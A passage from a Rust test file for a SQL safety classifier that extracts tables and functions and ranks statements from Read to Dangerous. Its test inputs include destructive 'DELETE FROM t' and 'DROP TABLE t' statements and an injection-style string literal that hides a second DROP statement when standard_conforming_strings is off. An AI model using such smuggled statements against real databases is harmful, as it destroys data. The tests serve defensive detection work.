        let s = one(sql);
        let want: Vec<String> = want.iter().map(|w| w.to_string()).collect();
        assert_eq!(sorted(s.tables), sorted(want), "{sql}");
    }
}

#[test]
fn functions_are_listed_as_written() {
    let s = one(
        "SELECT lower(name), pg_catalog.now(), \"MyFn\"(1), count(*) FROM t WHERE upper(x) = 'A'",
    );
    assert_eq!(
        sorted(s.functions),
        sorted(vec![
            "lower".to_owned(),
            "pg_catalog.now".to_owned(),
            "\"MyFn\"".to_owned(),
            "count".to_owned(),
            "upper".to_owned()
        ])
    );
    assert_eq!(one("CALL s.p(1)").functions, ["s.p"]);
}

#[test]
fn reasons_for_plain_statements() {
    assert!(one("SELECT 1").reasons.is_empty());
    assert!(one("BEGIN").reasons.is_empty());
    assert_eq!(one("DELETE FROM t").reasons, ["DELETE without WHERE"]);
    assert_eq!(one("DROP TABLE t").reasons, ["DROP TABLE"]);
    assert_eq!(
        one("EXPLAIN ANALYZE DELETE FROM t").reasons,
        ["EXPLAIN ANALYZE runs the statement", "DELETE without WHERE"]
    );
}

#[test]
fn standard_conforming_strings_off_changes_what_a_string_hides() {
    // with the setting off, \' does not end the literal, so the DROP is a real statement
    let sql = r"SELECT 'x\' , ' ; DROP TABLE t; --'";
    assert_eq!(classify(sql).strictest(), Some(Read));
    let off = crate::Options {
        standard_conforming_strings: false,
    };
    let c = crate::classify_with(sql, off);
    assert_eq!(c.statements.len(), 2, "{c:?}");
    assert_eq!(c.strictest(), Some(Dangerous));
}

#[test]
fn strictness_order() {
    let order = [
        Read,
        Utility,
        Transaction,
        Write,
        Ddl,
        Admin,
        Dangerous,
        Unknown,
    ];
    assert_eq!(Class::ALL, order);
    for (i, a) in order.iter().enumerate() {
        for (j, b) in order.iter().enumerate() {
            assert_eq!(strictest(*a, *b), order[i.max(j)]);
        }
        assert_eq!(a.as_str().parse::<Class>(), Ok(*a));
    }
    assert!("READ".parse::<Class>().is_err());
}
